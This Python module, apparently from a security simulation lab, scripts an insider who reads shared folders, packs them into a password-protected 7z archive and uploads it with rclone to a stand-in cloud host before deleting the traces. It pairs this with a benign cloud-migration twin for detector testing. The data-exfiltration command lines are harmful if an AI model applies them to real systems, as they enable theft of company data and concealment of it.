"""Data taken along by somebody who leaves, and its twin: a team's folder moves to the cloud."""

from tocsin.lab import logons
from tocsin.lab.hosts import Process, Session
from tocsin.lab.network import connect, reach, resolve
from tocsin.lab.people import Person
from tocsin.lab.plot import Plot, desk_of, pick
from tocsin.lab.processes import create_file, delete_file, finish, spawn_file
from tocsin.lab.wire import Amount
from tocsin.lab.world import MINUTE, SECOND, Habit, World

_FOLDERS = ("Sales", "Legal", "Board", "Projects")
_DROP = ("drop.cloudhaven.example", "203.0.113.77")
_SUITE = ("upload.cloudsuite.example", "198.51.100.111")
_FILES = 220
_SIZE = 600_000_000


def _open(world: World, person: Person) -> tuple[Process, Session]:
    desk = desk_of(world, person)
    server = world.hosts["FS01"]
    route = reach(world, desk.host.system["System"], server, 445, Amount(300_000, _SIZE * 4, 3000))
    session = logons.log_on(world, server, person.account, 3, desk.host, route)
    logons.open_share(world, session, desk.host, "Shared")
    return desk, session


def _read_all(plot: Plot, session: Session, person: Person, title: str) -> Habit:
    world = plot.world
    for number in range(_FILES):
        path = f"{plot.random.choice(_FOLDERS)}\\document {number}.docx"
        with plot.step(title, "T1039", quiet=True):
            logons.use_file(world, session, world.station(person), "Shared", path)
        yield plot.random.randint(1, 9) * SECOND


def attack(world: World) -> Habit:
    """In the evening a leaver reads all folders, packs them and sends them to a private store."""
    person = pick(world, ("sales", "trader"), "insider")
    plot = Plot(world, "insider", person.account.name)
    with plot.step("folders opened", "T1039", quiet=True):
        desk, session = _open(world, person)
    yield from _read_all(plot, session, person, "all folders read")
    archive = f"{person.home}\\Downloads\\photos.7z"
    with plot.step("packed with a password", "T1560.001"):
        image = "C:\\Program Files\\7-Zip\\7z.exe"
        command = f'7z.exe a -mhe=on -pSummer-26 "{archive}" "{person.home}\\Documents\\x"'
        packer = spawn_file(world, desk, image, command)
        create_file(world, packer, archive)
        finish(world, packer)
    yield 6 * MINUTE
    with plot.step("sent to a private store", "T1567.002"):
        image = f"{person.home}\\Downloads\\rclone.exe"
        tool = spawn_file(world, desk, image, f'"{image}" copy "{archive}" haven:p --transfers 4')
        resolve(world, tool, *_DROP)
    for _ in range(4):
        with plot.step("sent to a private store", "T1567.002"):
            connect(world, tool, _DROP[1], 443, _DROP[0], Amount(_SIZE, 90_000, 260.0))
        yield 5 * MINUTE
    with plot.step("traces removed", "T1070.004", quiet=True):
        finish(world, tool)
        delete_file(world, desk, archive)
        logons.log_off(world, session)


def twin(world: World) -> Habit:
    """An assistant moves the team's folder to the cloud suite with the tool that IT named."""
    person = pick(world, ("personnel", "legal", "purchasing"), "migration")
    plot = Plot(world, "insider", person.account.name, benign=True)
    with plot.step("folders opened", "T1039", quiet=True):
        desk, session = _open(world, person)
    yield from _read_all(plot, session, person, "folder copied")
    with plot.step("old papers packed", "T1560.001"):
        image = "C:\\Program Files\\7-Zip\\7z.exe"
        packer = spawn_file(
            world, desk, image, f'7z.exe a "{person.home}\\Documents\\2019.7z" D:\\x'
        )
        create_file(world, packer, f"{person.home}\\Documents\\2019.7z")
        finish(world, packer)
    image = "C:\\Program Files\\Cloudsuite\\MigrationAgent.exe"
    with plot.step("moved to the cloud suite", "T1567.002", quiet=True):
        tool = spawn_file(world, desk, image, f'"{image}" --plan team.json')
        resolve(world, tool, *_SUITE)
    for _ in range(5):
        with plot.step("moved to the cloud suite", "T1567.002", quiet=True):
            connect(world, tool, _SUITE[1], 443, _SUITE[0], Amount(_SIZE, 90_000, 240.0))
        yield 6 * MINUTE
    with plot.step("done", "T1039", quiet=True):
        finish(world, tool)
        logons.log_off(world, session)
